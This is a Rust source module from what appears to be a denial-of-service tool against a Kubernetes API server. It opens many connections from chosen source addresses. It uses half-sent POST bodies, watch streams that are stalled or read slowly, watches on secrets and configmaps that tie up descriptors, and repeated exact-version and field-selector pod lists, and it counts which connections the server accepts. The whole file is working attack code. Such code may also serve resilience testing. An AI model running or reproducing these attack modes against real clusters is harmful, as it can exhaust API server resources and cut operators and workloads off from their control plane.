//! Many HTTP/1.1 connections with one request at a time each, sent as bytes: a connection costs the attacker one task and one socket.

use std::collections::VecDeque;
use std::net::Ipv4Addr;
use std::sync::Arc;
use std::time::Duration;

use anyhow::{Result, ensure};
use parking_lot::Mutex;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use super::Attack;
use super::{AttackState, BACK_AFTER, OpenConnection, count, writes};
use crate::target::{connect_socket, source_socket};
use crate::wire::response::read_head;

/// Age of the version in exact reads, seconds.
const AGE: usize = 5;
/// Bytes a second of a slow reader.
const SLOW_LEN: usize = 10_000;
/// How often a slow reader reads.
const SLOW_EVERY: Duration = Duration::from_millis(100);
/// Receive buffer of clients that read slowly or never, bytes.
const SMALL_BUFFER: usize = 4_096;
/// How often to check whether the server has reset a connection that is not read.
const LOOK: Duration = Duration::from_secs(1);
/// Longest time without a byte of a response.
const ANSWER_WAIT: Duration = Duration::from_secs(30);

/// The newest versions, one a second.
#[derive(Debug, Default)]
pub(super) struct RecentVersions {
    kept: Mutex<VecDeque<String>>,
}

impl RecentVersions {
    pub(super) fn push(&self, version: &str) {
        let mut kept = self.kept.lock();
        kept.push_back(version.to_owned());
        if kept.len() > AGE {
            kept.pop_front();
        }
    }

    fn oldest(&self) -> Option<String> {
        let kept = self.kept.lock();
        kept.front().cloned()
    }
}

pub(super) fn begin(scene: &Arc<AttackState>, clients: &mut JoinSet<()>) {
    let versions = Arc::new(RecentVersions::default());
    if scene.flags.attack == Attack::Exact {
        clients.spawn(writes::follow_versions(scene.clone(), versions.clone()));
    }
    for number in 0..scene.flags.clients {
        let (scene, versions) = (scene.clone(), versions.clone());
        clients.spawn(async move {
            let mut is_first = true;
            loop {
                scene.pace.turn().await;
                let source = scene.source(number);
                let outcome = client(&scene, &versions, source, &mut is_first).await;
                if std::mem::take(&mut is_first) {
                    count(&scene.counts.started);
                }
                count(match outcome {
                    Ok(()) => &scene.counts.closed,
                    Err(_) => &scene.counts.refused,
                });
                tokio::time::sleep(BACK_AFTER).await;
            }
        });
    }
}

/// One connection, until it ends; an error if it was refused.
async fn client(
    scene: &AttackState,
    versions: &RecentVersions,
    source: Ipv4Addr,
    is_first: &mut bool,
) -> Result<()> {
    let attack = scene.flags.attack;
    let is_small = matches!(attack, Attack::SlowLists | Attack::Stalled);
    let address = scene.flags.target.address;
    let buffer = is_small.then_some(SMALL_BUFFER);
    let socket = source_socket(address, source, buffer)?;
    let mut stream = connect_socket(address, socket).await?;
    let _open = OpenConnection::of(scene);
    let path = match attack {
        Attack::Exact | Attack::NameSelectors => {
            return repeat(scene, versions, stream, is_first).await;
        }
        Attack::HalfBodies => {
            stream
                .write_all(&half_body(&scene.flags.target.authority))
                .await?;
            if std::mem::take(is_first) {
                count(&scene.counts.started);
            }
            read(&mut stream, None).await;
            return Ok(());
        }
        Attack::SlowLists => "/api/v1/pods?resourceVersion=0",
        Attack::Descriptors => "/api/v1/secrets?watch=1",
        Attack::Stalled => "/api/v1/namespaces/default/configmaps?watch=1",
        _ => "/api/v1/pods?watch=1&resourceVersion=0&timeoutSeconds=600",
    };
    stream
        .write_all(&scene.flags.target.fetch_text_as(path, "application/json"))
        .await?;
    let mut head = [0; 12];
    tokio::time::timeout(ANSWER_WAIT, stream.read_exact(&mut head)).await??;
    if std::mem::take(is_first) {
        count(&scene.counts.started);
    }
    ensure!(&head[9..] == b"200", "turned away");
    count(&scene.counts.done);
    match attack {
        Attack::Stalled => never_read(&stream).await,
        Attack::SlowLists => read(&mut stream, Some(SLOW_EVERY)).await,
        _ => read(&mut stream, None).await,
    }
    Ok(())
}

/// Reads nothing until the server resets the connection. A connection that was closed in order looks as if it stayed.
async fn never_read(stream: &TcpStream) {
    while let Ok(None) = stream.take_error() {
        tokio::time::sleep(LOOK).await;
    }
}

/// Reads until the server closes: as fast as possible, or a little now and then.
async fn read(stream: &mut TcpStream, every: Option<Duration>) {
    let len = if every.is_some() {
        SLOW_LEN / 10
    } else {
        16 << 10
    };
    let mut buffer = vec![0; len];
    while stream.read(&mut buffer).await.is_ok_and(|len| len > 0) {
        if let Some(every) = every {
            tokio::time::sleep(every).await;
        }
    }
}

/// A write whose body does not come.
fn half_body(authority: &str) -> Vec<u8> {
    let path = "/api/v1/namespaces/default/configmaps";
    format!(
        "POST {path} HTTP/1.1\r\nHost: {authority}\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{{"
    )
    .into_bytes()
}

/// Reads one pod at an old version, or by its name, again and again.
async fn repeat(
    scene: &AttackState,
    versions: &RecentVersions,
    mut stream: TcpStream,
    is_first: &mut bool,
) -> Result<()> {
    loop {
        scene.pace.turn().await;
        let path = match (scene.flags.attack, versions.oldest()) {
            (Attack::NameSelectors, _) => {
                "/api/v1/pods?resourceVersion=0&fieldSelector=metadata.name%3Dnobody".to_owned()
            }
            (_, Some(version)) => format!(
                "/api/v1/namespaces/default/pods?limit=1&resourceVersion={version}&resourceVersionMatch=Exact"
            ),
            (_, None) => continue,
        };
        stream
            .write_all(&scene.flags.target.fetch_text_as(&path, "application/json"))
            .await?;
        let head = tokio::time::timeout(ANSWER_WAIT, read_head(&mut stream, &mut false)).await??;
        if std::mem::take(is_first) {
            count(&scene.counts.started);
        }
        count(if head.status == 200 {
            &scene.counts.done
        } else {
            &scene.counts.refused
        });
    }
}
